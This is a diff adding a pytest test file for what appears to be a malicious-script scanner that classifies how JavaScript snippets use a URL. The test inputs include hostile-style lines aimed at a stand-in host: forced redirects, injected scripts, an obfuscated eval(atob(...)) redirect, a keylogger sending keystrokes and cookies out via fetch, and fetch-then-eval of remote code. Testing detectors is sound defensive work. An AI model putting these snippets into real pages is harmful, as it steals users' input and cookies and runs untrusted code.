@@ -1,0 +1,83 @@
+"""What a script does with the addresses it names, and when."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from scanner.scripts import unpack
+from scanner.scripts.acts import acts, occasion_of
+from scanner.scripts.lexer import tokens
+
+AT = "https://k8.example/"
+DONE = {
+    f"location.href='{AT}'": ("move", "opening"),
+    f"var u='{AT}?'+x;setTimeout(function(){{top.location.replace(u)}},9)": ("move", "opening"),
+    f"open('{AT}')": ("window", "opening"),
+    f"open('{AT}','_self')": ("move", "opening"),
+    f"go.onclick=function(){{location='{AT}'}}": ("move", "wish"),
+    f"document.body.onclick=()=>open('{AT}')": ("window", "anywhere"),
+    f"$(document).on('click',function(){{open('{AT}')}})": ("window", "anywhere"),
+    f"$('#a').click(function(){{open('{AT}')}})": ("window", "wish"),
+    f"function go(){{location='{AT}'}}": ("move", "called"),
+    f"function go(){{location='{AT}'}}go()": ("move", "opening"),
+    f"function go(){{location='{AT}'}}window.onload=go": ("move", "opening"),
+    f"function go(){{location='{AT}'}}a.addEventListener('click',go)": ("move", "wish"),
+    f"addEventListener('popstate',()=>{{location='{AT}'}})": ("move", "back"),
+    f"f.addEventListener('submit',async e=>{{await fetch('{AT}'+e)}})": ("send", "submit"),
+    f"var s=document.createElement('script');s.src='{AT}'": ("load", "opening"),
+    f"var i=new Image;i.src='{AT}'": ("send", "opening"),
+    f"var f=document.createElement('iframe');f.setAttribute('src','{AT}')": ("frame", "opening"),
+    f"var a=document.createElement('a');a.href='{AT}';a.click()": ("move", "opening"),
+    f"document.write('<script src={AT}></script>')": ("load", "opening"),
+    f"x.innerHTML='<iframe src=\"{AT}\">'": ("frame", "opening"),
+    f"new WebSocket('{AT}')": ("send", "opening"),
+    f"x.open('POST','{AT}')": ("send", "opening"),
+    f"$.ajax({{type:'POST',url:'{AT}'}})": ("send", "opening"),
+    f"import('{AT}')": ("load", "opening"),
+    f"document.forms[0].action='{AT}'": ("form", "opening"),
+    f"eval(atob('{__import__('base64').b64encode(f'location.href={AT!r};var documents=1;'.encode()).decode()}'))": (
+        "move",
+        "opening",
+    ),
+}
+
+
+@pytest.mark.parametrize("code", DONE)
+def test_an_address_is_followed_to_what_is_done_with_it(code):
+    assert [(act.kind, act.when, act.host) for act in unpack(code).acts] == [(*DONE[code], "k8.example")]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [f"var home='{AT}'", f"show('{AT}')", f"if(location.href=='{AT}')x()", "location.href='/a'", f"// location='{AT}'"],
+)
+def test_an_address_that_is_only_named_does_nothing(code):
+    assert unpack(code).acts == ()
+
+
+def test_what_stands_near_is_told():
+    code = f"document.onkeydown=function(e){{b+=e.key;fetch('{AT}?'+b+document.cookie)}}"
+    assert unpack(code).acts[0].near == {"keys", "cookie"}
+    code = f"fetch('{AT}').then(r=>r.text()).then(t=>eval(t))"
+    assert unpack(code).acts[0].near == {"run"}
+    assert unpack(f"fetch('{AT}').then(t=>eval('('+t+')'))").acts[0].near == frozenset()
+
+
+def test_occasions_of_events():
+    assert occasion_of("onclick", whole=True) == "anywhere"
+    assert occasion_of("mousedown", whole=False) == "wish"
+    assert occasion_of("DOMContentLoaded", whole=True) == ""
+
+
+@given(
+    st.lists(
+        st.sampled_from(
+            ["(", ")", "{", "}", "[", "]", "=>", "=", ".", ",", ":", f"'{AT}'", "function", "a", "location", "src"]
+        )
+    )
+)
+def test_any_sequence_is_survived(pieces):
+    found = acts(list(tokens(" ".join(pieces))))
+    assert len(found) <= 120
